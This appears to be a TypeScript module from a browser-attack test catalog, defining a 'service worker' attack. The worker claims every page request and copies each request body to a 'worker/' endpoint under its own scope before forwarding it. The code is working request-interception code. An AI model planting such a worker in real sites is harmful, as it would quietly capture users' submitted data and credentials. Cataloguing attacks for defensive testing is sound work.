import type { Attack } from '../attack.js';

export const serviceWorker: Attack = {
  title: 'service worker of the page’s origin',
  does: 'Registers a service worker that reads every request of the page before it forwards the request.',
  worker: `
    addEventListener('install', () => skipWaiting());
    addEventListener('activate', (event) => event.waitUntil(clients.claim()));
    addEventListener('fetch', (event) => {
      const { request } = event;
      event.respondWith(request.clone().text().then(async (body) => {
        await fetch(registration.scope + 'worker/' + encodeURIComponent(request.url), { method: 'POST', body });
        return fetch(request);
      }));
    });`,
  install: ({ basePath }) => {
    const { serviceWorker } = navigator;
    const ready = new Promise<unknown>((done) => {
      if (serviceWorker.controller !== null) done(true);
      else serviceWorker.addEventListener('controllerchange', done);
    });
    void serviceWorker.register(`${basePath}worker.js`);
    return () => ready.then(() => undefined);
  },
};
